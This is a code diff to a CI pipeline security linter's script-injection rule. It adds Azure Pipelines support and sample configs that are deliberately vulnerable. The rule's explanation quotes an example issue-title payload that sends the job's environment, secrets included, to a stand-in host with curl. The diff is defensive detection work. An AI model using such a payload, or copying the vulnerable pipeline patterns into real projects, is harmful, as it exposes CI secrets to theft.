@@ -2,6 +2,10 @@ import { SEVERITIES, type Severity } from "../../core/levels.ts";
 import type { PipelineFlows, Reference } from "../../core/pipeline.ts";
 import type { Place } from "../../core/span.ts";
 import type { PolicyMatch } from "../../core/stages.ts";
+import {
+  type Injection as AzureInjection,
+  injectionsIn as azureInjections,
+} from "../../platforms/azure-pipelines/injections.ts";
 import type { Author as Chooser } from "../../platforms/circleci/chosen-text.ts";
 import { type Injection as FilledIn, injectionsIn as filledIn } from "../../platforms/circleci/injections.ts";
 import { type Injection, injectionsIn } from "../../platforms/github-actions/injections.ts";
@@ -21,8 +25,8 @@ export const secretInInjectableStep = definePolicy({
   meta: {
     id: "untrusted/secret-in-injectable-step",
     title: "Script that takes outsiders' text for code",
-    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither.',
-    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
+    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither.',
+    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
     severity: "critical",
     confidence: "high",
     preset: "recommended",
@@ -32,11 +36,12 @@ export const secretInInjectableStep = definePolicy({
       "https://securitylab.github.com/resources/github-actions-untrusted-input/",
       "https://docs.gitlab.com/ci/variables/#cicd-variable-security",
       "https://circleci.com/docs/guides/orchestrate/pipeline-variables/",
+      "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs",
     ],
     practices: ["P5"],
     cwe: [94, 78],
   },
-  platforms: ["circleci", "github-actions", "gitlab-ci"],
+  platforms: ["azure-pipelines", "circleci", "github-actions", "gitlab-ci"],
   examples: {
     flag: [
       {
@@ -129,6 +134,47 @@ export const secretInInjectableStep = definePolicy({
         `,
       },
       {
+        path: "azure-pipelines.yml",
+        text: `
+          pr: [main]
+          steps:
+            - powershell: echo "«$(Build.SourceBranch)»"
+            - bash: |
+                git log -1 «$(System.PullRequest.SourceBranch)»
+                notify "«$(Build.SourceVersionMessage)»"
+              env:
+                CHAT_TOKEN: $(ChatToken)
+        `,
+      },
+      {
+        path: "azure-pipelines.yml",
+        text: `
+          parameters:
+            - name: target
+              type: string
+          steps:
+            - task: Bash@3
+              inputs:
+                targetType: inline
+                script: deploy --to \${{ «parameters.target» }} --branch \${{ «variables['Build.SourceBranchName']» }}
+        `,
+      },
+      {
+        path: ".gitlab-ci.yml",
+        text: `
+          spec:
+            inputs:
+              target:
+                description: Where to deploy.
+              level:
+                options: [low, high]
+          ---
+          deploy:
+            script:
+              - ./deploy «$[[ inputs.target ]]» --level $[[ inputs.level ]]
+        `,
+      },
+      {
         path: ".circleci/config.yml",
         text: `
           version: 2.1
@@ -152,21 +198,6 @@ export const secretInInjectableStep = definePolicy({
           workflows:
             main:
               jobs: [build]
-        `,
-      },
-      {
-        path: ".gitlab-ci.yml",
-        text: `
-          spec:
-            inputs:
-              target:
-                description: Where to deploy.
-              level:
-                options: [low, high]
-          ---
-          deploy:
-            script:
-              - ./deploy «$[[ inputs.target ]]» --level $[[ inputs.level ]]
         `,
       },
     ],
@@ -245,6 +276,26 @@ export const secretInInjectableStep = definePolicy({
         `,
       },
       {
+        path: "azure-pipelines.yml",
+        text: `
+          parameters:
+            - name: target
+              type: string
+              values: [staging, production]
+            - name: fast
+              type: boolean
+          steps:
+            - bash: |
+                git log -1 "$BRANCH"
+                notify "$MESSAGE" $(Build.BuildId) $(Build.SourceVersion)
+                deploy --to \${{ parameters.target }} \${{ eq(parameters.fast, true) }}
+              env:
+                BRANCH: $(System.PullRequest.SourceBranch)
+                MESSAGE: $(Build.SourceVersionMessage)
+                CHAT_TOKEN: $(ChatToken)
+        `,
+      },
+      {
         path: ".circleci/config.yml",
         text: `
           version: 2.1
@@ -274,6 +325,7 @@ export const secretInInjectableStep = definePolicy({
   },
   check({ model, flows }) {
     if (model.kind === "circleci") return onePerPlace(filledIn(model, flows).map(matchOfFilledIn));
+    if (model.kind === "azure") return onePerPlace(azureInjections(model, flows).map((one) => azureMatch(flows, one)));
     if (model.kind !== "pipeline") return onePerPlace(injectionsIn(model).flatMap((one) => matchOf(model, flows, one)));
     return onePerPlace(
       evaluatedIn(model, flows).map(({ place, name, by, script }) => {
@@ -305,6 +357,17 @@ function matchOfFilledIn({ place, path, author, by, script }: FilledIn): PolicyM
   const how = by === undefined ? "becomes part of the script" : `is run by \`${by}\``;
   const message = `The text of ${path} ${how}, and ${CHOOSERS[author]} chooses it.`;
   return { place, severity: secret === undefined ? alone : beside, message, related: related(secret) };
+}
+
+/** Forks get no secrets by default, so that a pull request from one does harm only where the settings allow it. */
+function azureMatch(flows: PipelineFlows, { name, author, place, script }: AzureInjection): PolicyMatch {
+  const { job } = script;
+  const secret =
+    script.secrets.find((one) => !isJobToken(one)) ??
+    flows.references.find((one) => one.job !== undefined && one.job === job && !isJobToken(one));
+  const full: Severity = author === "project" ? "medium" : "high";
+  const message = `The text of ${name} becomes part of the script, and ${CHOOSERS[author]} chooses it.`;
+  return { place, severity: secret === undefined ? "low" : full, message, related: related(secret) };
 }
 
 /** What an injected command could get hold of. */
